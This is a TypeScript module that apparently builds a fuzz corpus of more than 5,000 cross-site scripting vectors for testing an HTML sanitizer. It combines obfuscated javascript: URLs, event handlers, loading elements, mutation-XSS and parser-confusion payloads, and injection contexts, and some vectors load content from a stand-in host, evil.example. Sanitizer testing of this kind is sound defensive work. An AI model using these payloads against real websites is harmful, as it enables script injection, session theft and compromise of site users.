/**
 * HTML that tries to run, to load or to open something, put together from what is known to get past cleaners:
 * each way to fire (a handler, an address, an element that loads) in each disguise, within each context.
 */

const FIRE = 'pwned(1)'
const URLS = [
  `javascript:${FIRE}`,
  `JaVaScRiPt:${FIRE}`,
  `java\tscript:${FIRE}`,
  `java&#x0A;script:${FIRE}`,
  `&#106;avascript:${FIRE}`,
  `&#x6A&#x61vascript:${FIRE}`,
  `\u0001javascript:${FIRE}`,
  `&#1;javascript:${FIRE}`,
  `javascript&colon;${FIRE}`,
  `vbscript:${FIRE}`,
  `data:text/html,<script>${FIRE}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==`,
  '//evil.example/x',
  'https://evil.example/x',
  `feed:javascript:${FIRE}`,
  `view-source:javascript:${FIRE}`,
  ` javascript:${FIRE}`,
  `javascript://%0a${FIRE}`,
]
const LOADS = [
  ...['img src', 'img srcset', 'image href', 'iframe src', 'iframe srcdoc', 'embed src', 'object data', 'video src'],
  ...['video poster', 'audio src', 'source src', 'track src', 'input type=image src', 'link rel=stylesheet href'],
  ...['link rel=prefetch href', 'script src', 'base href', 'body background', 'table background', 'bgsound src'],
  ...['svg><image href', 'svg><use href', 'svg><a href', 'svg><animate attributeName=href values', 'frame src'],
  ...['form action', 'button formaction', 'input autofocus formaction', 'a href', 'a ping', 'area href'],
  ...[
    'math><a href',
    'math><mtext href',
    'meta http-equiv=refresh content="0;url',
    'portal src',
    'p style=background:url',
  ],
]
const HANDLERS = [
  ...['img src=x onerror', 'img src=x: OnErRoR', 'svg onload', 'svg/onload', 'body onload', 'video src=x onerror'],
  ...['audio src=x onerror', 'details open ontoggle', 'input autofocus onfocus', 'select autofocus onfocus'],
  ...[
    'textarea autofocus onfocus',
    'marquee onstart',
    'p onmouseover',
    'a href=# onclick',
    'b style=animation-name:x onanimationstart',
  ],
  ...[
    'iframe onload',
    'object onerror',
    'style onload',
    'script onload',
    'math onfocus tabindex=1 autofocus',
    'svg><animate onbegin',
  ],
  ...[
    'p tabindex=1 autofocus onfocus',
    'x contenteditable autofocus onfocus',
    'keygen autofocus onfocus',
    'br onerror',
  ],
]
const WHOLE = [
  `<script>${FIRE}</script>`,
  `<scr<script>ipt>${FIRE}</scr</script>ipt>`,
  `<SCRIPT/x>${FIRE}</SCRIPT>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<style>@import 'https://evil.example/x';</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${FIRE}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${FIRE}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${FIRE}>">`,
  `<template><img src=x onerror=${FIRE}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${FIRE}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${FIRE}>">`,
  `<title><p title="</title><img src=x onerror=${FIRE}>">`,
  `<plaintext><img src=x onerror=${FIRE}>`,
  `<!--><img src=x onerror=${FIRE}>-->`,
  `<!--[if gte IE 4]><script>${FIRE}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${FIRE}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${FIRE}>`,
  `&lt;img src=x onerror=${FIRE}&gt;`,
  `&amp;lt;img src=x onerror=${FIRE}&amp;gt;`,
  `<a href="x"><img src=x onerror=${FIRE}</a>`,
  `<option><style></option></select><img src=x onerror=${FIRE}></style>`,
  `<form id=test></form><button form=test formaction=javascript:${FIRE}>x</button>`,
  `<isindex type=image src=1 onerror=${FIRE}>`,
  `<a name=getElementById></a><form name=body></form>`,
]
const CONTEXTS = [
  ...[
    '{}',
    '<p>{}</p>',
    '<b>{}',
    '<a href="{}">x</a>',
    '<p title="{}">',
    "<p title='{}'>",
    '<!-- {} -->',
    '<ul><li>{}',
  ],
  ...['<svg>{}</svg>', '<math>{}</math>', '<noscript>{}</noscript>', '<template>{}</template>', '<select>{}</select>'],
  ...['<table><tr>{}', '<textarea>{}</textarea>', '<style>{}</style>', '<title>{}</title>', '<blockquote><{}'],
  ...[
    '<p\u0000>{}',
    '<a href=x {}>y</a>',
    '&lt;{}&gt;',
    '<iframe>{}</iframe>',
    '<noembed>{}</noembed>',
    '<xmp>{}</xmp>',
  ],
]
const ENDS = ['', '>', '"', "'>", '-->', '</style>', '\u0000', '\uD800']

/** More than 5,000 of them, the same in each run. */
export function htmlVectors(): string[] {
  const fires = [
    ...WHOLE,
    ...HANDLERS.flatMap((one) => [`<${one}=${FIRE}>`, `<${one}="${FIRE}"`, `<${one}\n=\n'${FIRE}'//>`]),
    ...LOADS.flatMap((one, nth) =>
      [URLS[nth % URLS.length]!, URLS[(nth * 7 + 3) % URLS.length]!].map((url) => `<${one}="${url}">`),
    ),
    ...URLS.map((url) => `<a href="${url}">x</a>`),
  ]
  return fires.flatMap((fire, nth) =>
    CONTEXTS.flatMap((context, at) => {
      const end = ENDS[(nth + at) % ENDS.length]!
      return [context.replace('{}', () => fire), context.replace('{}', () => fire + end)]
    }),
  )
}
